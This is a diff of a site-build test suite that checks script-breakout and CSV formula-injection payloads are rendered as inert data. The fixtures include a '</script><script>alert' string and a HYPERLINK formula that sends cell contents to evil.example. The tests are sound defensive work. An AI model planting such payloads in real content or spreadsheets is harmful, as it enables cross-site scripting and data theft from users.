@@ -11,8 +11,10 @@ import { parse } from 'node-html-parser';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { astroEnv, distDir, htmlFiles, removeContentStore, root, runAstro } from '../support/site';
 
-const attack = "</script><script>alert('J1')</script>";
-const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+// English text takes curly quotes (the content index refuses straight ones), so the attacks do too:
+// what they test is markup and formula injection, which the quotes do not change.
+const attack = '</script><script>alert(‘J1’)</script>';
+const formula = '=HYPERLINK(“http://evil.example/?”&A1,“click”)';
 const base = '/special/striving/';
 let dir = '';
 let hostileOut = '';
@@ -59,7 +61,7 @@ describe('content that carries script', () => {
       expect(ld, file).toHaveLength(1);
       expect(ld[0]?.rawText, file).toContain('\\u003c/script>');
       // The text arrives intact, as data.
-      expect(JSON.stringify(JSON.parse(ld[0]?.rawText ?? '{}')), file).toContain("</script><script>alert('J1')");
+      expect(JSON.stringify(JSON.parse(ld[0]?.rawText ?? '{}')), file).toContain('</script><script>alert(‘J1’)');
     }
   });
 
@@ -68,7 +70,7 @@ describe('content that carries script', () => {
       const page = parse(readFileSync(join(hostileOut, file), 'utf8'));
       // In an attribute (the meta description) the text is inert; as an element it would run.
       expect(
-        page.querySelectorAll('script').filter((el) => el.rawText.includes("alert('J1')") && !/json/.test(el.getAttribute('type') ?? '')),
+        page.querySelectorAll('script').filter((el) => el.rawText.includes('alert(‘J1’)') && !/json/.test(el.getAttribute('type') ?? '')),
         file,
       ).toEqual([]);
       expect(page.querySelector('head meta[http-equiv="content-security-policy"]'), file).not.toBeNull();
@@ -78,7 +80,7 @@ describe('content that carries script', () => {
 
   it('exports a formula-like label to CSV as text', () => {
     const csv = readFileSync(join(hostileOut, 'figures.csv'), 'utf8');
-    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(csv).toContain(`"'=HYPERLINK(“http://evil.example/?”&A1,“click”)"`);
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
   });
 });
